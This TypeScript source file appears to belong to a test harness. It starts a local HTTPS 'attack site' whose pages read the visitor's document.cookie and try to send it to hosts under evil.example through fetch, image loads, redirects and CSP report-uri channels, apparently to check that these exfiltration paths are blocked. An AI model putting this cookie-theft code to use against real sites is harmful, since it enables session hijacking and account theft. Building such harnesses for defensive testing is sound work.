import { createServer } from "node:https";
import type { ServerCertificate } from "../fake-platforms/certificates.ts";
import { type Channel, channels } from "./channels.ts";
import type { Sink } from "./sink.ts";

/** A platform's page that a stranger wrote: it sends its cookies out by one channel after the other. */
export interface AttackSite {
  readonly port: number;
  /** Cookie headers of its visitors. */
  readonly cookies: string[];
  stop(): Promise<void>;
}

/** The domain of the sink; each channel has a host of its own below it. */
export const sinkDomain = "evil.example";

/** The host at the sink to which a channel leads. A name that is only looked up has to be one that nobody maps. */
export function hostOf({ name, shows }: Channel): string {
  return shows === "name" ? `${name}.looked-up.example` : `${name}.${sinkDomain}`;
}

/** Serves `/attack/CHANNEL`, which sets its title to "tried" when it is through, and what those pages need. */
export async function startAttackSite(
  certificate: ServerCertificate,
  { tcpPort, udpPort }: Pick<Sink, "tcpPort" | "udpPort">,
): Promise<AttackSite> {
  const cookies: string[] = [];

  const server = createServer(certificate, (request, response) => {
    cookies.push(request.headers.cookie ?? "");
    const { pathname, searchParams } = new URL(request.url ?? "/", "https://x.com");
    const to = searchParams.get("to") ?? "";
    const html = { "content-type": "text/html", "cache-control": "no-store" };
    if (pathname === "/redirect") return void response.writeHead(302, { location: to }).end();
    if (pathname === "/fetches.js")
      return void response
        .writeHead(200, { "content-type": "text/javascript" })
        .end(`fetch(${JSON.stringify(to)}, { mode: "no-cors" })`);
    if (pathname === "/prerendered") return void response.writeHead(200, html).end(`<img src="${to}">`);
    if (pathname === "/csp")
      return void response
        .writeHead(200, { ...html, "content-security-policy": `img-src 'none'; report-uri ${to}` })
        .end(`<title>tried</title><img src="/any.png">`);
    const channel = channels.find(({ name }) => pathname === `/attack/${name}`);
    response.writeHead(channel ? 200 : 404, html).end(channel ? pageOf(channel, { tcpPort, udpPort }) : "");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const bound = server.address();
  if (bound === null || typeof bound === "string") throw new Error("a TCP server has a port");

  return {
    port: bound.port,
    cookies,
    async stop() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

function pageOf(channel: Channel, ports: { tcpPort: number; udpPort: number }): string {
  return `<!doctype html><title>trying</title><link rel="icon" href="data:,"><body><script>
    const { tcpPort, udpPort } = ${JSON.stringify(ports)};
    const data = document.cookie, host = "${hostOf(channel)}", url = "https://" + host + "/?" + encodeURIComponent(data);
    const add = (tag, properties) => {
      const element = Object.assign(document.createElement(tag), properties);
      (tag === "meta" || tag === "link" ? document.head : document.body).append(element);
      return element;
    };
    addEventListener("load", async () => { try { ${channel.script} } finally { document.title = "tried" } });
  </script>`;
}
